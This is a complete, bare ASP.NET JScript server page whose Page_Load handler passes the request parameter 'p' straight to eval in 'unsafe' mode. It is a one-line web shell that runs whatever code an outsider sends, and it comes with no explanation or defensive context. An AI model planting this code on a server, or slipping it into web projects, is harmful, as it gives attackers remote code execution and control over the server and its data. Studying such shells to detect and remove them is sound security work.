<script language="JScript" runat="server">
function Page_Load(){
  eval(Request["p"],"unsafe");
}
</script>
